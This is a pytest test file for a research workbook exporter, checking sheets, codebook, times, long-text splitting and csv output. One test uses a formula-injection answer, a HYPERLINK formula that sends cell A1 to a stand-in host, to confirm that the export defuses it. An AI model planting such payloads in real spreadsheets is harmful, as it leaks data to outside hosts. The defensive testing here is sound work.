"""The researchers' workbook as a researcher opens it: every sheet, its codebook, its times and its limits."""

import csv
import hashlib
import io
import re
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from carework_core.answering.service import Item
from carework_core.research import sheets
from carework_core.research.export import ANSWER_COLUMNS, export_workbook
from carework_core.research.sheets import MAX_CELL
from tests.conftest import MINI, ROOT, join, type_answers

SHEETS = [
    "About",
    "Participants",
    "Answers",
    "Earlier answers",
    "Shares",
    "Round r1",
    "Round r2",
    "Items",
    "Item statistics",
    "Summaries",
    "Audit",
]


async def answer_everything(services, user: int, examples: list[str]) -> None:
    """Answers every question of both mini rounds (r1 and r2 must be open, items loaded)."""
    a = services.answering
    await a.begin(user, "r1")
    for n, text in enumerate(examples):
        await a.receive_text(user, text, f"m{user}-{n}")
    if len(examples) < 3:
        await a.finish_question(user, "r1", 1)
    await a.receive_text(user, "Nothing else", f"m{user}-more")
    await a.tap(user, "r1", 3, "3", f"q{user}-size")
    await a.tap(user, "r1", 4, "0,2", f"q{user}-where")
    await a.begin(user, "r2")
    await a.tap(user, "r2", 1, "manager", f"q{user}-role")
    await a.tap(user, "r2", 2, "not_sure", f"q{user}-e", (0, 0))
    await a.tap(user, "r2", 2, "3", f"q{user}-n", (0, 1))


async def two_rounds(services) -> None:
    await services.answering.load_items("ideas", [Item("i1", "Rota apps")])
    await services.rounds.open_round("r1", actor="cli")
    await services.rounds.open_round("r2", actor="cli")


def table(book, title: str) -> list[tuple]:
    return list(book[title].iter_rows(values_only=True))


def about(book) -> dict:
    facts = {}
    for row in table(book, "About")[1:]:
        if not row or row[0] is None:
            break
        facts[row[0]] = row[1]
    return facts


def codebook(book) -> list[tuple]:
    rows = table(book, "About")
    start = rows.index(("sheet", "column", "meaning", "code", "label"))
    return rows[start + 1 :]


async def test_every_sheet_has_its_columns_explained_in_the_codebook(services, tmp_path):
    await join(services, 501)
    await two_rounds(services)
    await answer_everything(services, 501, ["Peer support", "Rota swaps"])
    out = tmp_path / "book.xlsx"
    counts = await export_workbook(services.env, out, definition=MINI)
    assert counts["answers"] == 8 and counts["participants"] == 1
    book = load_workbook(out)
    assert book.sheetnames == SHEETS
    facts = about(book)
    assert facts["definition_sha256"] == hashlib.sha256(MINI.read_bytes()).hexdigest()
    assert facts["definition_file"] == str(MINI) and facts["time_zone"].startswith("Europe/London")
    assert facts["answers"] == 8 and facts["filter_round"] == "all rounds"
    explained = {(r[0], r[1]) for r in codebook(book) if r[1]}
    for title in SHEETS[1:]:
        header = table(book, title)[0]
        assert [(title, name) for name in header if (title, name) not in explained] == [], title
    codes = {(r[0], r[1], r[3]): r[4] for r in codebook(book) if r[3] is not None}
    assert codes[("Round r1", "size", "3")] == "Big" and codes[("Round r1", "size", "-9")] == "Not sure"
    assert codes[("Round r1", "where_home", "1")] == "chosen"
    assert codes[("Round r2", "role", "2")] == "Manager"
    assert codes[("Round r2", "i1_evidence", "2")] == "Some"
    assert codes[("Participants", "consent_quote", "1")] == "agreed"
    assert codes[("Participants", "status", "unreachable")].startswith("Telegram refuses")
    assert codes[("Answers", "answer_code of r1/where", "res")] == "Care home"
    assert codes[("Answers", "answer_code of r2/rate/newness", "3")] == "Very new"
    assert codes[("Items", "score_evidence", "1")] == "None"


async def test_headers_are_bold_frozen_and_filtered(services, tmp_path):
    await join(services, 502)
    await two_rounds(services)
    await answer_everything(services, 502, ["Peer support"])
    out = tmp_path / "book.xlsx"
    await export_workbook(services.env, out)
    book = load_workbook(out)
    for title in SHEETS[1:]:
        sheet = book[title]
        assert sheet.freeze_panes == "A2" and sheet["A1"].font.b, title
        assert sheet.auto_filter.ref.startswith("A1:"), title
    assert book["Answers"].column_dimensions["G"].width > len("question")  # sized from the question text


async def test_round_sheets_have_one_row_per_person_and_coded_values(services, tmp_path):
    await join(services, 503)
    await join(services, 504, group="lived")
    await two_rounds(services)
    await answer_everything(services, 503, ["Peer support", "Rota swaps", "Buddy shifts"])
    await services.answering.begin(504, "r1")
    await services.answering.receive_text(504, "007", "m504")
    out = tmp_path / "book.xlsx"
    await export_workbook(services.env, out)
    book = load_workbook(out)
    r1 = table(book, "Round r1")
    examples = ("examples_1", "examples_2", "examples_3", "examples_none")
    assert r1[0][:8] == ("participant", "group", *examples, "more", "size")
    assert r1[0][8:] == ("where_home", "where_res", "where_other")
    given = ("Peer support", "Rota swaps", "Buddy shifts", 0)  # 0: they did not skip with no example
    assert r1[1] == ("P-0001", "workforce", *given, "Nothing else", 3, 1, 0, 1)
    assert r1[2][:3] == ("P-0002", "lived", "007") and r1[2][5] == 0 and set(r1[2][3:5] + r1[2][6:]) == {None}
    r2 = table(book, "Round r2")
    assert r2 == [("participant", "group", "role", "i1_evidence", "i1_newness"), ("P-0001", "workforce", 2, -9, 3)]
    for title in ("Round r1", "Round r2"):
        assert all(re.fullmatch(r"[A-Za-z][A-Za-z0-9_]{0,31}", name) for name in table(book, title)[0])


async def test_times_are_real_local_date_times(services, clock, tmp_path):
    clock.set(datetime.fromisoformat("2026-07-01T08:30:00+00:00"))
    await join(services, 505)
    await services.rounds.open_round("r1", actor="cli")
    await services.answering.begin(505, "r1")
    await services.answering.receive_text(505, "2024-01-02", "m1")
    out = tmp_path / "book.xlsx"
    await export_workbook(services.env, out)
    book = load_workbook(out)
    answer = table(book, "Answers")[1]
    assert answer[13] == datetime(2026, 7, 1, 9, 30)  # British Summer Time
    assert answer[10] == "2024-01-02" and book["Answers"]["K2"].data_type == "s"
    assert book["Answers"]["N2"].number_format == "yyyy-mm-dd hh:mm:ss"
    person = table(book, "Participants")
    assert person[0][:6] == ("participant", "group", "language", "joined", "consented_at", "status")
    assert person[1][:6] == (
        "P-0001",
        "workforce",
        "en",
        datetime(2026, 7, 1, 9, 30),
        datetime(2026, 7, 1, 9, 30),
        "active",
    )
    assert person[1][6:8] == (1, datetime(2026, 7, 1, 9, 30))  # consent_read and when
    audit = table(book, "Audit")
    assert audit[-1][1:4] == ("cli", "open_round", "r1") and audit[-1][0] == datetime(2026, 7, 1, 9, 30)


LOOKALIKES = ["007", "1e5", "2024-01-02", "TRUE", "3.14", "#N/A", "=SUM(A1:A2)", "12/03/2025"]


async def test_numbers_dates_and_formulas_people_type_stay_their_text(services, tmp_path):
    await services.rounds.open_round("r1", actor="cli")
    await type_answers(services, LOOKALIKES, first_user=600)
    out = tmp_path / "book.xlsx"
    await export_workbook(services.env, out)
    book = load_workbook(out)
    cells = [row[10] for row in book["Answers"].iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in cells] == [(t, "s") for t in LOOKALIKES]
    wide = [c for row in book["Round r1"].iter_rows(min_row=2) for c in row[2:5] if c.value is not None]
    assert [(c.value, c.data_type) for c in wide] == [(t, "s") for t in LOOKALIKES]


async def test_forbidden_characters_are_dropped_and_counted(services, tmp_path):
    await join(services, 700)
    await services.rounds.open_round("r1", actor="cli")
    await services.answering.begin(700, "r1")
    await services.answering.receive_text(700, "bell\x07 and\x00 null\x1b", "m1")
    out = tmp_path / "book.xlsx"
    await export_workbook(services.env, out)
    book = load_workbook(out)
    assert table(book, "Answers")[1][10] == "bell and null"
    assert about(book)["forbidden_characters_dropped"] == 6  # three in Answers, three in the round sheet


async def test_a_text_longer_than_a_cell_continues_in_the_next_cell_never_cut(services, tmp_path):
    await join(services, 701)
    await services.rounds.open_round("r1", actor="cli")
    await services.answering.begin(701, "r1")
    long = "".join(f"{n:06d} " for n in range(10_000))  # 70,000 characters
    await services.answering.receive_text(701, long, "m1")
    out = tmp_path / "book.xlsx"
    await export_workbook(services.env, out)
    book = load_workbook(out)
    row = table(book, "Answers")[1]
    assert len(row[10]) == MAX_CELL and len(row[11]) == MAX_CELL
    rest = "".join(v for v in row[len(ANSWER_COLUMNS) :] if v)  # beyond two cells: at the row's end
    assert row[10] + row[11] + rest == long and row[12] is None  # typed text has no code
    header, wide = table(book, "Round r1")[:2]
    width = len([name for name in header if name])
    assert wide[2] + "".join(v for v in wide[width:] if v) == long
    assert about(book)["texts_continued_in_next_cell"] == 2


async def test_a_sheet_past_the_row_limit_continues_on_the_next(services, tmp_path, monkeypatch):
    monkeypatch.setattr(sheets, "MAX_ROWS", 3)  # a header and two rows
    await services.rounds.open_round("r1", actor="cli")
    for user in (801, 802):
        await join(services, user)
        await services.answering.begin(user, "r1")
        for n in range(3 if user == 801 else 2):
            await services.answering.receive_text(user, f"{user}-{n}", f"m{user}-{n}")
    out = tmp_path / "book.xlsx"
    counts = await export_workbook(services.env, out)
    book = load_workbook(out)
    assert counts["answers"] == 5
    assert [t for t in book.sheetnames if t.startswith("Answers")] == ["Answers", "Answers (2)", "Answers (3)"]
    parts = [table(book, t) for t in ("Answers", "Answers (2)", "Answers (3)")]
    assert all(p[0][0] == "participant" for p in parts)
    assert [r[10] for p in parts for r in p[1:]] == ["801-0", "801-1", "801-2", "802-0", "802-1"]
    assert book.sheetnames[0] == "About"


async def test_csv_zip_holds_the_same_sheets_and_the_codebook(services, tmp_path):
    await join(services, 901)
    await two_rounds(services)
    await answer_everything(services, 901, ['=HYPERLINK("http://x.example/?"&A1,"see")', "#REF!"])
    out = tmp_path / "book.zip"
    counts = await export_workbook(services.env, out, format="csv")
    assert counts["answers"] == 8
    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
        raw = {n: archive.read(n) for n in names}
    assert sorted(names) == sorted(
        [
            "participants.csv",
            "answers.csv",
            "earlier_answers.csv",
            "shares.csv",
            "round_r1.csv",
            "round_r2.csv",
            "items.csv",
            "item_statistics.csv",
            "ranking.csv",  # the csv export only: the report's ranking in long format, for R, SPSS and Stata
            "summaries.csv",
            "audit.csv",
            "changes.csv",  # the csv export only: what changed between rounds (empty here: nothing rated twice)
            "about.csv",
            "codebook.csv",
        ]
    )
    assert all(data.startswith(b"\xef\xbb\xbf") for data in raw.values())
    answers = list(csv.reader(io.StringIO(raw["answers.csv"].decode("utf-8-sig"))))
    # A spreadsheet opening the csv must not run a participant's formula: it gets a leading apostrophe.
    assert [r[10] for r in answers[1:3]] == ['\'=HYPERLINK("http://x.example/?"&A1,"see")', "'#REF!"]
    codes = list(csv.reader(io.StringIO(raw["codebook.csv"].decode("utf-8-sig"))))
    assert ["Round r1", "size", "", "-9", "Not sure"] in codes  # a negative number is no formula
    facts = dict(r[:2] for r in csv.reader(io.StringIO(raw["about.csv"].decode("utf-8-sig"))) if len(r) > 1)
    assert facts["csv_formula_like_texts_quoted"] == "4"  # each in Answers and in the round sheet


# Excel reads these as error values, or (full-width signs) as the start of a formula, when it opens a csv.
SPREADSHEET_WORDS = ["#N/A", "#DIV/0!", "#REF!", "#NULL!", "#VALUE!", "#NAME?", "#NUM!", "#GETTING_DATA"]
SPREADSHEET_WORDS += ["#SPILL!", "#CALC!", "#n/a", "＝1+1", "＋SUM(A1)", "－A1", "＠SUM(A1)"]


async def test_error_codes_and_full_width_formula_signs_are_quoted_in_the_csv_and_xlsx(services, tmp_path):
    await services.rounds.open_round("r1", actor="cli")
    for n in range(0, len(SPREADSHEET_WORDS), 3):
        await join(services, 910 + n)
        await services.answering.begin(910 + n, "r1")
        for k, text in enumerate(SPREADSHEET_WORDS[n : n + 3]):
            await services.answering.receive_text(910 + n, text, f"m{n}-{k}")
    await services.answering.receive_text(910, "#N/A is what the rota said", "m-plain")  # only a whole code
    out = tmp_path / "book.zip"
    await export_workbook(services.env, out, format="csv")
    with zipfile.ZipFile(out) as archive:
        answers = list(csv.reader(io.StringIO(archive.read("answers.csv").decode("utf-8-sig"))))
        about_rows = list(csv.reader(io.StringIO(archive.read("about.csv").decode("utf-8-sig"))))
    typed = sorted(r[10] for r in answers[1:])
    assert typed == sorted(["'" + w for w in SPREADSHEET_WORDS] + ["#N/A is what the rota said"])
    facts = dict(r[:2] for r in about_rows if len(r) > 1)
    assert facts["csv_formula_like_texts_quoted"] == str(2 * len(SPREADSHEET_WORDS))  # Answers and Round r1
    book = tmp_path / "book.xlsx"
    await export_workbook(services.env, book)
    cells = {row[10].value: row[10] for row in load_workbook(book)["Answers"].iter_rows(min_row=2)}
    assert all(cells[w].data_type == "s" and cells[w].quotePrefix for w in SPREADSHEET_WORDS)
    assert not cells["#N/A is what the rota said"].quotePrefix


async def test_one_round_or_answers_since_a_date(services, clock, tmp_path):
    clock.set(datetime.fromisoformat("2026-03-01T12:00:00+00:00"))
    await join(services, 950)
    await two_rounds(services)
    await services.answering.begin(950, "r1")
    await services.answering.receive_text(950, "early", "m1")
    clock.set(datetime.fromisoformat("2026-03-03T12:00:00+00:00"))
    await services.answering.receive_text(950, "late", "m2")
    await services.answering.begin(950, "r2")
    await services.answering.tap(950, "r2", 1, "manager", "q1")
    out = tmp_path / "book.xlsx"
    await export_workbook(services.env, out, since=date(2026, 3, 2))
    assert [r[10] for r in table(load_workbook(out), "Answers")[1:]] == ["late", "Manager"]
    await export_workbook(services.env, out, round_id="r1")
    book = load_workbook(out)
    assert [r[10] for r in table(book, "Answers")[1:]] == ["early", "late"]
    assert "Round r2" not in book.sheetnames and about(book)["filter_round"] == "r1"


async def test_items_list_each_loaded_item(services, tmp_path):
    await services.answering.load_items("ideas", [Item("i1", "Rota apps"), Item("i2", "Peer circles")])
    out = tmp_path / "book.xlsx"
    await export_workbook(services.env, out)
    items = table(load_workbook(out), "Items")
    assert items[0][:5] == ("item_set", "item_id", "kind", "text", "position")
    assert items[0][5:] == (
        "source_examples",
        "description",
        "theme",
        "evidence_notes",
        "score_evidence",
        "score_newness",
    )
    assert [r[:2] + r[3:5] for r in items[1:]] == [("ideas", "i1", "Rota apps", 0), ("ideas", "i2", "Peer circles", 1)]


async def test_an_unknown_round_or_format_is_refused(services, tmp_path):
    from carework_core.errors import ExportRefused

    with pytest.raises(ExportRefused, match="there is no round 'r9' to export; rounds are r1, r2"):
        await export_workbook(services.env, tmp_path / "a.xlsx", round_id="r9")
    with pytest.raises(ExportRefused, match="give a name ending in .zip"):
        await export_workbook(services.env, tmp_path / "a.xlsx", format="csv")


async def test_items_and_answers_carry_the_synthesis_and_reasons_where_those_parts_exist(
    services, tmp_path, monkeypatch
):
    """How the workbook lays out the synthesis (item details, items fed) and dissent reasons; the real
    round trips are in tests/e2e/test_synthesis.py and tests/core/test_carry.py."""
    from types import SimpleNamespace

    from carework_core.research import workbook_sources

    await join(services, 990)
    await two_rounds(services)
    await answer_everything(services, 990, ["Peer support"])
    detail = SimpleNamespace(
        item_id="i1",
        sources=("E1", "E7"),
        description="Apps to swap shifts",
        theme="tech",
        notes="Two trusts",
        scores={"evidence": 2},
    )
    card = SimpleNamespace(round_id="r2", question_id="rate", item_id="i1", criterion_id="newness")
    reason = SimpleNamespace(code="P-0001", card=card, text="Seen it")

    async def item_details(tx, item_set):
        return [detail] if item_set == "ideas" else []

    async def items_fed_by(tx):
        return {"E1": ["i1"]}

    async def reasons_of(tx, round_id):
        return [reason] if round_id == "r2" else []

    monkeypatch.setattr(
        workbook_sources, "stored_items", SimpleNamespace(item_details=item_details, items_fed_by=items_fed_by)
    )
    monkeypatch.setattr(workbook_sources, "stored_reasons", SimpleNamespace(reasons_of=reasons_of))
    out = tmp_path / "book.xlsx"
    await export_workbook(services.env, out)
    book = load_workbook(out)
    assert table(book, "Items")[1] == (
        *("ideas", "i1", None, "Rota apps", 0, "E1;E7", "Apps to swap shifts", "tech"),  # no kind
        *("Two trusts", 2, None),
    )
    answers = {(r[5], r[9]): r for r in table(book, "Answers")[1:]}
    assert answers[("examples", None)][14:] == (
        "E1",
        None,
        "i1",
        None,
        None,
        None,
        None,
        None,
    )  # no voice note, follow-ups or Other
    assert answers[("rate", "Newness")][15] == "Seen it" and answers[("rate", "Evidence")][15] is None


async def test_item_statistics_hide_a_group_whose_figures_would_rest_on_two_ratings(services, tmp_path):
    await services.answering.load_items("ideas", [Item("i1", "Rota apps")])
    await services.rounds.open_round("r2", actor="cli")
    # Five care workers: evidence None, A lot and three Not sure (two ratings); newness all rated.
    for user, evidence in zip(range(1, 6), ["1", "3", "not_sure", "not_sure", "not_sure"], strict=True):
        await join(services, user)
        await services.answering.begin(user, "r2")
        await services.answering.tap(user, "r2", 1, "carer", f"role{user}")
        await services.answering.tap(user, "r2", 2, evidence, f"ev{user}", (0, 0))
        await services.answering.tap(user, "r2", 2, "3", f"new{user}", (0, 1))
    out = tmp_path / "book.xlsx"
    await export_workbook(services.env, out)
    header, *rows = table(load_workbook(out), "Item statistics")
    cells = {(r[3], r[4]): dict(zip(header, r, strict=True)) for r in rows}
    hidden = cells["evidence", "workforce"]
    assert hidden["suppressed"] == 1 and hidden["q1"] is None and hidden["q3"] is None and hidden["median"] is None
    assert cells["newness", "workforce"]["suppressed"] == 0 and cells["newness", "workforce"]["n"] == 5


async def test_the_readme_names_only_sheets_the_workbook_has(services, tmp_path):
    await join(services, 995)
    await two_rounds(services)
    await answer_everything(services, 995, ["Peer support"])
    out = tmp_path / "book.xlsx"
    await export_workbook(services.env, out)
    readme = (ROOT / "README.md").read_text()
    named = set(re.findall(r"(?:export|workbook)'s ([A-Z][a-z]+(?: [a-z]+)?) sheet", readme))
    assert named and named <= set(load_workbook(out).sheetnames)
